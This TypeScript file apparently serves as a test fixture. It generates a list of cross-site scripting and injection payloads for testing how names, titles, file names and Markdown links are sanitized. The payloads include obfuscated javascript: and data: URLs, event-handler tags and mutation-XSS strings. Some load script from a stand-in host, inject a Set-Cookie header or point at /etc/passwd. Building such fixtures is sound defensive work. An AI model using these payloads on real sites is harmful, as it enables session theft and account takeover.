/**
 * What people write who want a script of theirs to run at others'. Each is short enough for a name (128 bytes would be
 * the tightest bound of the contract), so that the same ones go into names, titles, texts, file names and links.
 * After the lists of OWASP and PortSwigger, and the ways in which Markdown renderers were broken.
 */

const HANDLERS = ["onerror", "onload", "onfocus", "onmouseover", "onclick", "onanimationstart", "ontoggle", "onpointerenter"];
const ELEMENTS = [
  ["img", "src=x"],
  ["svg", ""],
  ["body", ""],
  ["input", "autofocus"],
  ["details", "open"],
  ["video", "src=x"],
  ["audio", "src=x"],
  ["iframe", "src=about:blank"],
  ["marquee", ""],
  ["x-y", "tabindex=1 autofocus"],
] as const;

/** Elements with handlers, quoted in the usual ways. */
const handlers = ELEMENTS.flatMap(([tag, more], at) =>
  HANDLERS.map((handler, which) => {
    const value = ["alert(1)", '"alert(1)"', "'alert(1)'", "`alert(1)`", "alert&#40;1&#41;"][(at + which) % 5];
    return `<${tag} ${more} ${handler}=${value}>`.replace(/ +/g, " ");
  }),
);

const SCHEMES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "java&#x09;script:alert(1)",
  "javascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "&#106;avascript:alert(1)",
  "\u0001javascript:alert(1)",
  "javascript://example.org/%0aalert(1)",
  "javascript:%61lert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "blob:null/alert(1)",
  "file:///etc/passwd",
  "view-source:javascript:alert(1)",
  "feed:javascript:alert(1)",
  "//example.org/%0d%0aSet-Cookie:a=b",
] as const;

/** Links as Markdown writes them. */
const links = SCHEMES.flatMap((url) => [
  `[look](${url})`,
  `[look](<${url}>)`,
  `<${url}>`,
  `![look](${url})`,
  `[look][1]\n\n[1]: ${url}`,
  `<a href="${url}">look</a>`,
]);

const others = [
  "<script>alert(1)</script>",
  "<script src=//example.org/x.js></script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script\n>alert(1)</script\n>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "--><script>alert(1)</script>",
  "]]><script>alert(1)</script>",
  "\"><script>alert(1)</script>",
  "'><script>alert(1)</script>",
  "`><script>alert(1)</script>",
  "\" onmouseover=alert(1) x=\"",
  "' onmouseover=alert(1) x='",
  "\" autofocus onfocus=alert(1) x=\"",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<math href=javascript:alert(1)>x</math>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<base href=//example.org/>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href=//example.org/x.css>",
  "<style>@import '//example.org/x.css';</style>",
  "<style>*{background:url(javascript:alert(1))}</style>",
  "<div style=background:url(javascript:alert(1))>x</div>",
  "<p style=\"animation:x\" onanimationstart=alert(1)>x",
  "<img src=\"x` `<script>alert(1)</script>\"` `>",
  "<img/src=x/onerror=alert(1)>",
  "<img src=x onerror\u000b=alert(1)>",
  "<img src=x:x onerror=alert`1`>",
  "<img srcset=x onerror=alert(1)>",
  "<picture><source srcset=x><img onerror=alert(1)></picture>",
  "<video><source onerror=alert(1)></video>",
  "<table background=javascript:alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<a href=\"\" id=x>x</a><a id=x name=attributes>",
  "<form><input name=attributes><input name=parentNode></form>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version=1?><script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "\\x3cscript\\x3ealert(1)",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  "{{constructor.constructor('alert(1)')()}}",
  "{@html '<img src=x onerror=alert(1)>'}",
  "${alert(1)}",
  "#{alert(1)}",
  "<%= alert(1) %>",
  "{{7*7}}[[7*7]]",
  "__proto__",
  "constructor",
  "toString",
  "%s%s%n",
  "{name} {count} {title}",
  "$& $1 $` $'",
  "\u202e)1(trela:tpircsavaj",
  "\u2066<script>alert(1)</script>\u2069",
  "```html\n<img src=x onerror=alert(1)>\n```",
  "`<img src=x onerror=alert(1)>`",
  "~~<img src=x onerror=alert(1)>~~",
  "**<img src=x onerror=alert(1)>**",
  "> <img src=x onerror=alert(1)>",
  "# <img src=x onerror=alert(1)>",
  "| <img src=x onerror=alert(1)> |\n|-|",
  "[<img src=x onerror=alert(1)>](https://example.org)",
  "[x](https://example.org \"<img src=x onerror=alert(1)>\")",
  "[x](https://example.org/\" onmouseover=alert(1) x=\")",
  "https://example.org/\"onmouseover=alert(1)//",
  "https://example.org/<script>alert(1)</script>",
  "https://user:pw@example.org@evil.example/",
  "https://example.org/?q='-alert(1)-'",
  "mailto:a@example.org?subject=<script>alert(1)</script>",
  "www.example.org/<img src=x onerror=alert(1)>",
  "@ana<img src=x onerror=alert(1)>",
  ":smile:<img src=x onerror=alert(1)>:",
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */alert(1))//</stYle/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>",
  "\";alert(1);//",
  "';alert(1);//",
  "\\\";alert(1);//",
  "</script><svg onload=alert(1)>",
  "<x onclick=alert(1)>x</x>",
  "<a href=# onclick=alert(1)>x</a>",
  "<a href=https://example.org target=_self>x</a>",
  "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
  "<slot onslotchange=alert(1)>",
  "<portal src=https://example.org>",
  "<fencedframe></fencedframe>",
  "<link rel=prefetch href=//example.org>",
];

/** All of them, each once. */
export const PAYLOADS: readonly string[] = [...new Set([...others, ...links, ...handlers])];

/** As a file would be called, or a person: one line without controls. */
export function asName(payload: string): string {
  return payload.replace(/[\u0000-\u001f\u007f]+/g, " ").trim().slice(0, 100) || "x";
}
